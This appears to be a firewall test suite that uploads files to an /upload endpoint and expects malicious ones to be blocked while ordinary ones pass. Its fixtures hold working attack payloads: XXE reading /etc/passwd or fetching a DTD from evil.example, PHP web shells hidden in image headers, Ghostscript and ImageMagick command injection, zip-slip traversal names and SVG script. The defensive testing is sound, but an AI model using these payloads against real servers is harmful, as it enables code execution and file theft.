/** What is in files: programs and documents that a server would run or read, and all the rest that people upload. */
import { ATTACKS } from './test-support/bodies.ts';
import { matchedIds, sendRequest, sites, type TestRequest } from './test-support/send.ts';

const file = (type: string, name: string, content: string): TestRequest => ({
  target: '/upload',
  headers: ['Content-Type', 'multipart/form-data; boundary=edge'],
  body: `--edge\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--edge--\r\n`,
});
const drawing = (attributes: string, content: string) =>
  `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${content}</svg>`;

/** Entries of an archive as they stand one behind another, and its list of them. */
const archive = (names: readonly string[], listed = names) =>
  names.map((name) => `PK\x03\x04${'\0'.repeat(26)}${name}tea, 'from ./../shop'`).join('') +
  listed.map((name) => `PK\x01\x02${'\0'.repeat(42)}${name}`).join('');

const ANYWHERE: Readonly<Record<string, TestRequest>> = {
  'a drawing that fetches a file': file(
    'image/svg+xml',
    'a.svg',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('', '<text>&x;</text>')}`,
  ),
  'a parameter entity': file(
    'application/octet-stream',
    'a.docx',
    '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;]><a/>',
  ),
  'entities that multiply': file(
    'image/svg+xml',
    'a.svg',
    '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>',
  ),
};

const FROM_MEDIUM: Readonly<Record<string, TestRequest>> = {
  'PHP in a photo': file('image/jpeg', 'a.jpg', "\xff\xd8\xff\xe0\0JFIF\0<?php system($_GET['c']); ?>"),
  'short PHP in a photo': file('image/gif', 'a.gif', 'GIF89a<?=`$_GET[c]`?>'),
  'an opening tag in a photo': file('image/gif', 'a.gif', 'GIF89a<?php echo 7*7; ?>'),
  'a drawing with a handler': file('image/svg+xml', 'a.svg', drawing('onload="fetch(1)"', '')),
  'a drawing with a script': file('image/png', 'a.png', drawing('', '<script>top.x()</script>')),
  'a page of PostScript that opens a pipe': file(
    'image/jpeg',
    'a.jpg',
    '%!PS\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops\n',
  ),
  'drawing commands that start a program': file(
    'image/png',
    'a.png',
    'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://a.example/x.jpg"|id ")\'\npop graphic-context\n',
  ),
  'drawing commands that read a file': file(
    'image/png',
    'a.png',
    "push graphic-context\nimage over 0,0 0,0 'label:@/etc/passwd'\npop graphic-context\n",
  ),
  'an archive whose second entry leaves the folder': file(
    'application/zip',
    'a.zip',
    archive(['a.txt', '../../srv/x'], []),
  ),
  'an archive whose list leaves the folder': file(
    'application/zip',
    'a.zip',
    archive(['a.txt', 'b.txt'], ['a.txt', "it's/../../srv/x"]),
  ),
  'a drawing with a link that runs': file(
    'image/svg+xml',
    'a.svg',
    drawing('', '<a href="java&#115;cript:x()"><text>x</text></a>'),
  ),
};

const ORDINARY: readonly (readonly [type: string, name: string, content: string])[] = [
  [
    'image/svg+xml',
    'logo.svg',
    '<?xml version="1.0" encoding="utf-8"?><!-- Generator: Drawing 9 --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ' +
      '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>' +
      '<svg version="1.1" xmlns="&ns_svg;"><style type="text/css">.a{fill:#fff}</style><g id="on-top">' +
      '<path class="a" d="M0 0"/><animate attributeName="x" begin="0s"/></g></svg>',
  ],
  [
    'application/postscript',
    'a.eps',
    '%!PS-Adobe-3.0 EPSF-3.0\n%%Title: (a | b)\n/Times findfont\nshowpage\n',
  ],
  [
    'image/png',
    'a.mvg',
    "push graphic-context\nfill 'url(#a)'\nimage over 0,0 9,9 'a.png'\npop graphic-context\n",
  ],
  ['text/plain', 'notes.md', '# PHP\n```php\n<?php echo "hello"; ?>\n```\n'],
  ['text/x-shellscript', 'install.sh', '#!/bin/sh\nset -e\ncd /opt && tar xzf "$1" | tee log\n'],
  ['application/sql', 'dump.sql', "INSERT INTO users VALUES (1,'jane');\nDROP TABLE IF EXISTS old;\n"],
  ['application/zip', 'a.zip', archive(['a.txt', 'notes/b..c.txt', 'notes/tea...'])],
  ['application/java-archive', 'a.jar', archive(['org/example/Launcher.class', 'org/example/(a).txt'])],
  ['text/html', 'page.html', '<!doctype html><script src="/app.js"></script>'],
  ['text/csv', 'list.csv', 'name,price\nchairs,12\n"O\'Brien; Söhne",=SUM(A1:A2)\n'],
  [
    'application/json',
    'export.json',
    JSON.stringify([{ title: "It's 5 o'clock", body: '<p>Hi <b>you</b></p>' }]),
  ],
  [
    'text/xml',
    'feed.xml',
    '<?xml version="1.0"?><rss version="2.0"><channel><item><description><![CDATA[<p>Hello <a href="https://a.example/' +
      '?a=1&b=2">x</a></p>]]></description></item></channel></rss>',
  ],
  [
    'image/png',
    'a.png',
    '\x89PNG\r\n\x1a\n<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta><?xpacket end="w"?>',
  ],
];

describe.each(Object.entries(sites))('at %s', (sensitivity, site) => {
  it.each(Object.entries(ANYWHERE))('%s is stopped', (_what, request) => {
    expect(sendRequest(site, request).interruption).toMatchObject({ status: 403 });
  });

  it.each(Object.entries(FROM_MEDIUM))('%s is stopped, but at low', (_what, request) => {
    expect(sendRequest(site, request).interruption?.status ?? 200).toBe(sensitivity === 'low' ? 200 : 403);
  });

  it.each([
    ['application/json', (value: string) => JSON.stringify({ page: 1, q: [value] })],
    ['application/problem+json; charset=utf-8', (value: string) => JSON.stringify({ q: value })],
    ['application/x-ndjson', (value: string) => `{"a":1}\n${JSON.stringify({ q: value })}\n`],
    [
      'text/xml',
      (value: string) => `<a><b>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`,
    ],
    ['application/x-www-form-urlencoded', (value: string) => `page=1&q=${encodeURIComponent(value)}`],
  ])('a file of %s is read as that, as servers do with parts', (type, write) => {
    const passed = Object.entries(ATTACKS).filter(
      ([, attack]) => sendRequest(site, file(type, 'blob', write(attack))).interruption === null,
    );
    expect(passed.map(([family]) => family)).toEqual([]);
  });

  it.each(ORDINARY)('an ordinary file of %s passes: %s', (type, name, content) => {
    expect(matchedIds(sendRequest(site, file(type, name, content)))).toEqual([]);
  });
});
